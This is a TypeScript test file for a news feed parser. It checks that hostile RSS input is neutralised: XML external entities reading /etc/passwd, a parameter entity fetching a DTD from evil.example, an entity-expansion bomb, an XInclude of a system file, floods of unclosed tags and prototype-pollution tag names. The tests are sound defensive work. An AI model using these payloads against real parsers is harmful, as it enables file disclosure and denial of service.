/** Feeds that were made to read files, to reach hosts, or to take all time and memory. */
import { expect, test } from 'vitest';
import { readFeed } from '../../../src/news/feed/read-feed.ts';
import { FEED_URL, readWell, rssFeed } from '../../support/sample-feeds.ts';

const item = (n: number, body = '') =>
  `<item><title>Title ${n}</title><link>https://b.example/${n}</link><guid>g${n}</guid>${body}</item>`;

const feedWith = (doctype: string, reference: string) =>
  `<?xml version="1.0"?>${doctype}${rssFeed(item(1, `<description>before ${reference} after</description>`)).slice(38)}`;
const textOf = (source: string) => readWell(source).items[0]?.teaser ?? '';

test.each([
  ['a file', '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['a public one', '<!DOCTYPE rss [<!ENTITY x PUBLIC "-//X//EN" "http://evil.example/x">]>'],
  ['a text', '<!DOCTYPE rss [<!ENTITY x "expanded">]>'],
  [
    'a parameter',
    '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY x "expanded">]>',
  ],
  ['a text with a bracket', '<!DOCTYPE rss [<!ENTITY x "expanded ]> more">]>'],
  ['a second declaration', '<!DOCTYPE a><!DOCTYPE rss [<!ENTITY x "expanded">]>'],
])('an entity that stands for %s is not expanded', (_name, doctype) => {
  expect(textOf(feedWith(doctype, '&x;'))).toBe('before &x; after');
});

test('a bomb of entities stays small', () => {
  const levels = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`);
  const read = textOf(feedWith(`<!DOCTYPE rss [<!ENTITY l0 "lol">${levels.join('')}]>`, '&l12;'));
  expect(read).toBe('before &l12; after');
});

test('nothing is included', () => {
  const source = rssFeed(
    item(
      1,
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><description>d</description>',
    ),
  );
  expect(textOf(source)).toBe('d');
});

test.each([
  ['elements', '<a>'],
  ['items', '<item>'],
  ['comments', '<!--'],
  ['CDATA sections', '<description><![CDATA['],
  ['quotes', `<a b='">`],
  ['brackets', '<'],
  ['references', '&amp'],
])('30,000 %s that are never closed are survived', (_name, piece) => {
  const bytes = new TextEncoder().encode(rssFeed(item(1)).replace('</channel>', piece.repeat(30_000)));
  const result = readFeed({ bytes, url: FEED_URL, contentType: '', charset: null });
  expect(result.ok && result.feed.items[0]?.key).toBe('g1');
});

test('names of what every object has are names like others', () => {
  const read = readWell(
    rssFeed(`<item><__proto__>x</__proto__><constructor>y</constructor><title>T</title></item>`),
  );
  expect(read.items[0]?.title).toBe('T');
  expect(
    readWell(rssFeed('<item><title>T</title><toString>1</toString></item><item><__proto__/>')).items[0]
      ?.title,
  ).toBe('T');
});
